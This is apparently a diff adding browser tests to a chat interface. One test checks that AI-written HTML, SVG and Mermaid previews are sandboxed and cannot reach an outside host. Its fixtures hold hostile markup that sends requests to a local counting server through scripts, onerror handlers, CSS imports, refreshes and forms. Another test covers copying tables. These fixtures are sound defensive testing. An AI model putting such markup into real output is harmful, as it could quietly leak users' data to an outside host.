@@ -1,6 +1,8 @@
 """What an answer shows leads nowhere by itself; and the app works below a path."""
 
 import re
+import socketserver
+import threading
 from collections.abc import Iterator
 
 import pytest
@@ -85,3 +87,129 @@ def test_below_a_path_the_headers_links_lead_below_it(page_below: Page) -> None:
         assert address.startswith(BELOW)
         answer = page.request.get(f"{page.url.split(BELOW)[0]}{address}")
         assert answer.status == 200
+
+
+class Counter(socketserver.ThreadingTCPServer):
+    """A host of this machine that counts who knocks, whatever they ask for."""
+
+    daemon_threads = True
+
+    def __init__(self) -> None:
+        self.knocks = 0
+        super().__init__(("127.0.0.1", 0), socketserver.BaseRequestHandler)
+        self.url = f"http://127.0.0.1:{self.server_address[1]}"
+
+    def verify_request(self, *_: object) -> bool:
+        self.knocks += 1
+        return False
+
+
+@pytest.fixture
+def host() -> Iterator[Counter]:
+    with Counter() as counter:
+        threading.Thread(target=counter.serve_forever, daemon=True).start()
+        yield counter
+        counter.shutdown()
+
+
+def hostile(host: str) -> dict[str, str]:
+    """What a model could write to carry words away, by the language of its block."""
+    page = f"""<!doctype html><html><head><base href="{host}/"><meta http-equiv="refresh" content="0;url={host}/refresh">
+<link rel="stylesheet" href="{host}/link.css"><link rel="preconnect" href="{host}"><link rel="prefetch" href="{host}/p">
+<style>@import url({host}/import.css); body {{ background: url({host}/bg.png) }} @font-face {{ font-family: f; src: url({host}/f.woff) }}</style></head>
+<body background="{host}/body.png" style="font-family: f"><h1>A safe page</h1><img src="{host}/img.png" srcset="{host}/set.png 2x"><iframe src="{host}/frame"></iframe>
+<object data="{host}/object"></object><embed src="{host}/embed"><video src="{host}/video" poster="{host}/poster" autoplay></video>
+<form action="{host}/form"><input name="q" value="words"><button>Send</button></form><a id="away" href="{host}/a" ping="{host}/ping">A link</a>
+<script>parent.document.title = "ran"; fetch("{host}/fetch"); new Image().src = "{host}/image"; location = "{host}/go"</script>
+<img src="data:," onerror="fetch('{host}/onerror')"></body></html>"""
+    svg = f"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 120 60"><style>@import url({host}/svg.css);</style>
+<image href="{host}/image.png" width="9" height="9"/><use href="{host}/use.svg#a"/><script>fetch("{host}/svg")</script>
+<a href="{host}/svg-a"><text id="seen" x="9" y="30" onclick="fetch('{host}/click')">A safe picture</text></a></svg>"""
+    mermaid = f"""%%{{init: {{"themeCSS": "@import url({host}/m.css);", "securityLevel": "loose"}}}}%%
+flowchart LR
+  A["<img src='{host}/node.png' onerror='fetch(1)'> First"] --> B[Second]
+  click B href "{host}/click" """
+    return {"html": page, "svg": svg, "mermaid": mermaid}
+
+
+@pytest.mark.parametrize("language", ["html", "svg", "mermaid"])
+def test_what_an_answer_describes_is_shown_when_asked_for_and_reaches_nobody(
+    page: Page, host: Counter, language: str
+) -> None:
+    ask(page, f"```{language}\n{hostile(host.url)[language]}\n```")
+    block = page.locator(".ai-message .bg-card").filter(has=page.locator("[data-k-lines]"))
+    tab = block.get_by_role("tab", name="Просмотр")
+    expect(tab).to_be_visible()
+    expect(page.locator(".ai-message iframe")).to_have_count(0)
+    tab.click()
+    frame = block.locator("iframe")
+    expect(frame).to_have_attribute("sandbox", "")
+    words = {"html": "A safe page", "svg": "A safe picture", "mermaid": "Second"}[language]
+    seen = block.frame_locator("iframe").get_by_text(words)
+    expect(seen).to_be_visible(timeout=60_000)
+    if language == "html":
+        block.frame_locator("iframe").get_by_text("A link").click()
+        block.frame_locator("iframe").get_by_role("button", name="Send").click()
+    else:
+        seen.click()
+    expect(seen).to_be_visible()
+    picture(page, f"preview-{language}")
+    block.get_by_role("tab", name="Код").click()
+    expect(frame).to_have_count(0)
+    expect(block.locator("code")).to_contain_text(words)
+    assert page.evaluate("document.title") != "ran"
+    assert page.evaluate(
+        "() => fetch('/diagrams').then((a) => a.headers.get('content-security-policy'))"
+    ).startswith("sandbox allow-scripts; default-src 'none'")
+    assert host.knocks == 0
+
+
+SHEETS = "\n".join(
+    (
+        "| Товар | Цена |",
+        "|---|---|",
+        '| Чай "Ассам" | 42 |',
+        r"| a \| b | \(x^2\) |",
+        "",
+        "```csv",
+        "name;note",
+        'Ann;"one, ""two"""',
+        "Bob;three",
+        "```",
+    )
+)
+
+
+def test_tables_and_csv_are_copied_as_other_programs_take_them(page: Page) -> None:
+    ask(page, SHEETS)
+    answer = page.locator(".ai-message")
+    expect(answer.locator("[data-k-lines='3']")).to_be_visible()
+    page.evaluate(
+        "() => Object.defineProperty(navigator, 'clipboard', { configurable: true,"
+        " value: { writeText: async (text) => { (window.copied ??= []).push(text) } } })"
+    )
+    copies = answer.get_by_role("button", name="Скопировать таблицу")
+    expect(copies).to_have_count(2)
+    for place in (0, 1):
+        for form in ("Для Excel", "CSV", "Markdown"):
+            answer.locator(".k-copy-table").nth(place).click()
+            page.locator("#k-table-menu").get_by_role("button", name=form).click()
+            expect(page.locator("#k-table-menu")).to_be_hidden()
+    picture(page, "tables")
+    page.wait_for_function("() => window.copied?.length === 6")
+    assert page.evaluate("() => copied") == [
+        'Товар\tЦена\n"Чай ""Ассам"""\t42\na | b\t\\( x^2 \\)',
+        'Товар,Цена\n"Чай ""Ассам""",42\na | b,\\( x^2 \\)',
+        '| Товар | Цена |\n| --- | --- |\n| Чай "Ассам" | 42 |\n| a \\| b | \\( x^2 \\) |',
+        'name\tnote\nAnn\t"one, ""two"""\nBob\tthree',
+        'name,note\nAnn,"one, ""two"""\nBob,three',
+        '| name | note |\n| --- | --- |\n| Ann | one, "two" |\n| Bob | three |',
+    ]
+    block = answer.locator(".bg-card").filter(has=page.locator("[data-k-lines]"))
+    block.get_by_role("tab", name="Просмотр").click()
+    expect(block.get_by_role("cell", name='one, "two"')).to_be_visible()
+    block.get_by_role("tab", name="Код").click()
+    wrap = block.get_by_role("button", name="Переносить длинные строки")
+    wrap.click()
+    expect(wrap).to_have_attribute("aria-pressed", "true")
+    expect(block.locator("code")).to_have_css("white-space", "pre-wrap")
